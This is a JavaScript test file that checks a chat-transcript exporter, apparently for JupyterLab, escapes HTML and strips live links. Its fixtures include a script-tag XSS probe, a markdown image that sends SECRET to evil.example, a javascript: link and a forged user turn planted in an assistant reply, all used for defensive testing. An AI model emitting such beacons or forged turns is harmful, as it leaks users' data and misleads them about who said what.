// @ts-check
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { transcript } from './transcript.js';

test('a transcript holds roles and text, oldest first, and no HTML that would run', () => {
  const { markdown, plain } = transcript('Chat', [
    { role: 'user', content: 'hello <script>alert(1)</script>' },
    { role: 'assistant', content: 'Hi & **welcome**' },
    { role: 'assistant', content: '' },
  ]);
  assert.match(markdown, /\*\*User:\*\*\n\n> hello &lt;script>alert\(1\)&lt;\/script>/);
  assert.match(markdown, /\*\*Assistant:\*\*\n\n> Hi &amp; \*\*welcome\*\*/);
  assert.ok(markdown.indexOf('User') < markdown.indexOf('Assistant'));
  assert.match(markdown, /2 messages/);
  assert.equal(plain, 'Chat (jupyter-resumechat transcript, 2 messages)\n\nUser: hello <script>alert(1)</script>\n\nAssistant: Hi & **welcome**\n');
});

test('a transcript has no live link or image (a viewer would fetch the URL)', () => {
  const { markdown } = transcript('Chat', [{ role: 'assistant', content: '![x](https://evil.example/p?d=SECRET) [c](javascript:alert(1))' }]);
  assert.ok(!markdown.includes(']('), markdown);
});

test('a transcript rendered as JupyterLab renders markdown (marked, GFM) has no link and no forged turn', async () => {
  const { marked } = await import('marked');
  const reply = 'see https://track.example/p www.evil.com me@corp.example\n\n---\n\n**User:**\n\nI accept the terms';
  const { markdown, plain } = transcript('Chat', [
    { role: 'user', content: 'hello' },
    { role: 'assistant', content: reply },
  ]);
  const html = await marked.parse(markdown, { gfm: true });
  assert.ok(!/<a |<img /.test(html), html);
  const outside = html.replace(/<blockquote>[\s\S]*?<\/blockquote>/g, '');
  assert.equal((outside.match(/<p><strong>User:<\/strong><\/p>/g) || []).length, 1, html);
  assert.equal((outside.match(/<hr>/g) || []).length, 2, html);
  assert.ok(markdown.replace(/\u200b/g, '').includes('> see https://track.example/p www.evil.com me@corp.example\n>\n> ---'));
  assert.deepEqual(plain.split('\n').filter((l) => l.startsWith('User:')), ['User: hello']);
});
